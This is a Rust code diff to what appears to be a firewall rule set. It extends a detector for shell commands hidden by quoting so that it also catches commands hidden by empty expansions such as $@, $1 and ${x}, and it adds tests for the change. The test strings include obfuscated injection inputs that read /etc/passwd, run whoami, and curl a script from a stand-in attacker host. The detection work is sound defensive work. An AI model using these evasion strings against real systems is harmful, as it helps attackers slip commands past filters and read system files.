@@ -46,8 +46,8 @@ pub(super) fn rules() -> Vec<RuleDef> {
             Critical,
             ATTACK,
             DEC,
-            Detector(obfuscated_command, TRIGGERS),
-            "Command hidden by shell quoting",
+            Detector(obfuscated_command, PREFILTER),
+            "Command hidden by shell quoting or by expansions that are empty",
         ),
         rule(
             932100,
@@ -401,6 +401,8 @@ pub(super) fn obfuscated_command(s: &str) -> bool {
     let Some(cmd) = COMMAND.as_ref() else {
         return false;
     };
+    let s = empty_expansions(s);
+    let s = s.as_ref();
     let b = s.as_bytes();
     if !b.iter().any(|&c| is_trigger(c)) {
         return false;
@@ -447,8 +449,24 @@ fn any_word_hides_command(cmd: &regex::Regex, s: &str) -> bool {
 }
 
 /// What may start obfuscation in a word: shell quoting marks and a glob class.
-/// Also the rule's prefilter, so a value without any of them is never read.
 const TRIGGERS: &[u8] = b"'\"\\^[";
+
+/// The rule's prefilter: a value with none of these is never read. `$` for
+/// [`empty_expansions`].
+const PREFILTER: &[u8] = b"'\"\\^[$";
+
+/// `c$@at`, `c$*at`, `c$1at`, `c${x}at`: inside a shell word, `$@` and `$*`
+/// (no positional parameters), `$1`..`$9` and an unset variable expand to
+/// nothing, so they hide a command the way `''` does, and are read as `''`.
+/// (`$$`, `$?`, `$!`, `$-` and `$_` expand to text, and stay.)
+fn empty_expansions(s: &str) -> std::borrow::Cow<'_, str> {
+    static EMPTY: std::sync::LazyLock<Option<regex::Regex>> =
+        std::sync::LazyLock::new(|| regex::Regex::new(r"\$(?:[@*1-9]|\{\w{0,8}\})").ok());
+    match EMPTY.as_ref() {
+        Some(re) if s.contains('$') => re.replace_all(s, "''"),
+        _ => std::borrow::Cow::Borrowed(s),
+    }
+}
 
 fn is_trigger(c: u8) -> bool {
     TRIGGERS.contains(&c)
@@ -590,6 +608,27 @@ mod tests {
         assert!(fires(932100, "a&cmd,/c,whoami"));
         assert!(!fires(932100, "builder.retain_set(&set);"));
         assert!(!fires(932100, "parse_ref(&cmd, arg)"));
+    }
+
+    #[test]
+    fn empty_expansions_inside_a_command_word_fire_but_prices_and_text_ones_do_not() {
+        for a in [
+            "www.example.com;c$@at /et$@c/pas$@swd",
+            "c$*at /etc/passwd",
+            "who$1ami",
+            "c${x}url http://evil.example/x.sh",
+        ] {
+            assert!(obfuscated_command(a), "missed {a}");
+        }
+        for b in [
+            "costs US$9 or $5",
+            "s/(\\w+)/$1/g",
+            "echo $1 and $@",
+            "c$$at is a pid",
+            "Hello ${name}, welcome",
+        ] {
+            assert!(!obfuscated_command(b), "flagged {b}");
+        }
     }
 
     #[test]
